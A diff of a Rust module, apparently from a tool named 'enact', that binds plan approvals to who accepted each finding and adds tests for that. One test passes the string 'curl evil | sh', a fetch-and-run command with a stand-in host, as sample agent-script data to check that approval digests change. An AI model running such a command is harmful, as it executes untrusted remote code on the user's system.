@@ -11,6 +11,7 @@ use enact_domain::names;
 use enact_domain::speckit::spec::Spec;
 use enact_domain::speckit::tasks::{self, TaskState, TasksFile, UNREAD_TASK};
 use enact_domain::speckit::{Diagnostic, Parsed, Severity, TaskId};
+use enact_domain::stamps::Stamps;
 use enact_domain::text::truncated;
 use serde::Serialize;
 
@@ -171,11 +172,23 @@ pub fn check(plan: &str, tasks: &[TaskTemplate]) -> Result<(Vec<String>, Graph),
 pub const AGENT_DIGESTS: &str = "agentDigests";
 
 /// Returns the canonical JSON that an approval of a plan is bound to: everything that decides what is done, and nothing that decides only
-/// when. `agents` are the digests of the Agents that the plan names, as far as they exist.
+/// when. `agents` are the digests of the Agents that the plan names, as far as they exist, and `stamps` say who accepted its findings.
 ///
 /// # Errors
 /// When the plan cannot be written as JSON.
-pub fn canonical(spec: &PlanSpec, tasks: &[TaskTemplate], agents: &AgentDigests) -> serde_json::Result<String> {
+pub fn canonical(
+    spec: &PlanSpec,
+    tasks: &[TaskTemplate],
+    agents: &AgentDigests,
+    stamps: &Stamps,
+) -> serde_json::Result<String> {
+    #[derive(Serialize)]
+    struct Accepted<'a> {
+        #[serde(flatten)]
+        findings: &'a AcceptedFinding,
+        #[serde(skip_serializing_if = "Option::is_none")]
+        by: Option<&'a str>,
+    }
     #[derive(Serialize)]
     #[serde(rename_all = "camelCase")]
     struct Canonical<'a> {
@@ -189,8 +202,8 @@ pub fn canonical(spec: &PlanSpec, tasks: &[TaskTemplate], agents: &AgentDigests)
         tasks: &'a [TaskTemplate],
         #[serde(skip_serializing_if = "<[_]>::is_empty")]
         decisions: &'a [PlanDecision],
-        #[serde(skip_serializing_if = "<[_]>::is_empty")]
-        accepted: &'a [AcceptedFinding],
+        #[serde(skip_serializing_if = "Vec::is_empty")]
+        accepted: Vec<Accepted<'a>>,
         workspace: &'a Option<Workspace>,
         gates: &'a [Gate],
     }
@@ -201,7 +214,7 @@ pub fn canonical(spec: &PlanSpec, tasks: &[TaskTemplate], agents: &AgentDigests)
         agent_digests: agents,
         tasks,
         decisions: &spec.decisions,
-        accepted: &spec.accepted,
+        accepted: spec.accepted.iter().map(|findings| Accepted { findings, by: findings.by(stamps) }).collect(),
         workspace: &spec.workspace,
         gates: &spec.gates,
     };
@@ -358,6 +371,8 @@ fn cut(text: &str, bytes: usize) -> String {
 
 #[cfg(test)]
 mod tests {
+    use enact_domain::stamps::Stamp;
+
     use super::*;
 
     #[test]
@@ -426,10 +441,11 @@ mod tests {
             let task = serde_json::json!({"id": "T001", "title": "t", "attempts": {"bestOf": 2, "measurements": measurements}});
             let spec: PlanSpec =
                 serde_json::from_value(serde_json::json!({"agents": [{"name": "a"}], "tasks": [task]})).unwrap();
-            canonical(&spec, &spec.tasks, &AgentDigests::new()).unwrap()
+            canonical(&spec, &spec.tasks, &AgentDigests::new(), &Stamps::default()).unwrap()
         };
         assert_ne!(spec("Lower"), spec("Higher"));
-        let plain = canonical(&PlanSpec::default(), &[TaskTemplate::default()], &AgentDigests::new()).unwrap();
+        let (agents, stamps) = (AgentDigests::new(), Stamps::default());
+        let plain = canonical(&PlanSpec::default(), &[TaskTemplate::default()], &agents, &stamps).unwrap();
         assert!(!plain.contains("attempts"), "plans without contests keep their digests");
     }
 
@@ -437,11 +453,30 @@ mod tests {
     fn the_agents_are_a_part_of_what_is_approved() {
         let of = |script: &str| {
             let digest = enact_domain::digest::Digest::of_bytes(script.as_bytes());
-            canonical(&PlanSpec::default(), &[], &AgentDigests::from([("coder".to_owned(), digest)])).unwrap()
+            let agents = AgentDigests::from([("coder".to_owned(), digest)]);
+            canonical(&PlanSpec::default(), &[], &agents, &Stamps::default()).unwrap()
         };
         assert_ne!(of("make"), of("curl evil | sh"));
         let json: serde_json::Value = serde_json::from_str(&of("make")).unwrap();
         assert!(json[AGENT_DIGESTS]["coder"].is_string(), "{json}");
+    }
+
+    #[test]
+    fn who_accepted_a_finding_is_a_part_of_what_is_approved() {
+        let accepted = serde_json::json!([{"code": "VagueTime", "at": "FR-001", "reason": "later"}]);
+        let spec: PlanSpec = serde_json::from_value(serde_json::json!({"accepted": accepted})).unwrap();
+        let by = |user: &str| {
+            let mut stamps = Stamps::default();
+            let stamp = Stamp { by: user.into(), date: "2026-11-25".into() };
+            stamps.insert(&["VagueTime", "FR-001", "later"], stamp);
+            canonical(&spec, &[], &AgentDigests::new(), &stamps).unwrap()
+        };
+        assert_ne!(by("ann"), by("bob"));
+        let json: serde_json::Value = serde_json::from_str(&by("ann")).unwrap();
+        let entry = serde_json::json!({"code": "VagueTime", "at": "FR-001", "reason": "later", "by": "ann"});
+        assert_eq!(json["accepted"], serde_json::json!([entry]));
+        let unknown = canonical(&spec, &[], &AgentDigests::new(), &Stamps::default()).unwrap();
+        assert!(!unknown.contains("\"by\""), "nobody knows who accepted it: {unknown}");
     }
 
     #[test]
